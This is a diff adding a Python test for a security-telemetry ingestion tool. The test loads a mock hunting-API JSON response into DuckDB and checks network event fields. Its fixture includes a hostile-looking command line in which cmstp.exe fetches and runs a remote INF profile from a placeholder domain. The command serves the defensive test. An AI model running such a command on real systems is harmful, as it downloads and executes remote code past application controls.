@@ -182,3 +182,22 @@ def test_default_database_is_announced_and_python_api(tmp_path: Path, monkeypatc
     assert summary.database == str(tmp_path / "api.duckdb")
     assert summary.rows_per_table["DeviceNetworkEvents"] > 0
     assert summary.as_dict()["sources"][0]["format"] == "evtx-json"
+
+
+def test_advanced_hunting_api_response(tmp_path: Path) -> None:
+    response = {
+        "Schema": [{"Name": "Timestamp", "Type": "DateTime"}, {"Name": "DeviceName", "Type": "String"}],
+        "Results": [{"Timestamp": "2026-11-24T09:14:03.1234567Z", "DeviceName": "hr-lt017.corp.contoso.com",
+                     "ActionType": "ConnectionSuccess", "RemoteIP": "104.21.55.12", "RemotePort": 443,
+                     "RemoteUrl": "cdn-updates.contoso-files.net", "InitiatingProcessFileName": "cmstp.exe",
+                     "InitiatingProcessCommandLine": "cmstp.exe /ni /s https://cdn-updates.contoso-files.net/profile.inf"}
+                    for _ in range(2)],
+    }
+    target = tmp_path / "hunting-results.json"
+    target.write_text(json.dumps(response, indent=2), encoding="utf-8")  # pretty-printed, as saved from the API
+    engine = DuckDBEngine(None)
+    summary = ingest_paths([target], engine=engine)
+    assert summary.rows_per_table["DeviceNetworkEvents"] == 2
+    row = engine.run("SELECT RemoteIP, RemotePort, InitiatingProcessFileName FROM DeviceNetworkEvents").as_dicts()[0]
+    assert row == {"RemoteIP": "104.21.55.12", "RemotePort": 443, "InitiatingProcessFileName": "cmstp.exe"}
+    engine.close()
